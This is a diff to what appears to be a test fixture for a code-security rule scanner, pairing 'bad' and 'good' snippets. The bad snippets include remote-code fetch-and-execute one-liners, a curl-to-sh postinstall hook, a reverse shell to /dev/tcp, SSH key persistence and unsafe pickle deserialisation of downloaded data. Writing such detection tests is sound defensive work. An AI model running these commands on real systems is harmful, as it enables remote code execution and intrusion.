@@ -10,6 +10,9 @@ export const CODE_CASES: RuleCase[] = [
   { id: 'DX003', bad: ps('irm evil-cdn.example.io/i.ps1 | iex'), good: ps('powershell -c "irm bun.sh/install.ps1 | iex"') },
   { id: 'DX004', bad: py('exec(requests.get(URL).text)'), good: py('data = requests.get(URL).json()') },
   { id: 'DX005', bad: sh('curl -sL https://x.example/a -o /tmp/a'), good: sh('curl -sL https://x.example/a -o ./a') },
+  { id: 'DX004', bad: [{ path: 'lib/plugins.rb', text: 'eval(Net::HTTP.get(URI(PLUGIN_INDEX)), TOPLEVEL_BINDING)' }], good: [{ path: 'lib/plugins.rb', text: 'index = JSON.parse(Net::HTTP.get(URI(PLUGIN_INDEX)))' }] },
+  { id: 'DX011', bad: py('state = pickle.loads(blob)'), good: py('state = json.loads(blob)') },
+  { id: 'DX012', bad: py('blob = urllib.request.urlopen(URL, timeout=10).read()'), good: py('blob = pathlib.Path("cache.bin").read_bytes()') },
   { id: 'DX006', bad: sh('nohup /tmp/.agent &'), good: sh('mkdir -p /tmp/build && cd /tmp/build') },
   { id: 'DX007', bad: pkg({ scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } }), good: pkg({ scripts: { postinstall: 'node scripts/setup.js' } }) },
   { id: 'RS001', bad: sh('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'), good: sh('timeout 1 bash -c "</dev/tcp/127.0.0.1/5432"') },
@@ -109,6 +112,11 @@ export const COMBO_CASES: RuleCase[] = [
     id: 'CB016',
     bad: sh('KEY="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOfake0key0for0tests ops@box"\necho "$KEY" >> ~/.ssh/authorized_keys'),
     good: sh('read -r -p "Paste your public key: " KEY\necho "$KEY" >> ~/.ssh/authorized_keys'),
+  },
+  {
+    id: 'CB017',
+    bad: py('blob = urllib.request.urlopen(BUCKET + name + ".pkl", timeout=20).read()\ntemplate = pickle.loads(blob)'),
+    good: py('blob = urllib.request.urlopen(BUCKET + name + ".json", timeout=20).read()\ntemplate = json.loads(blob)'),
   },
   {
     id: 'CB006',
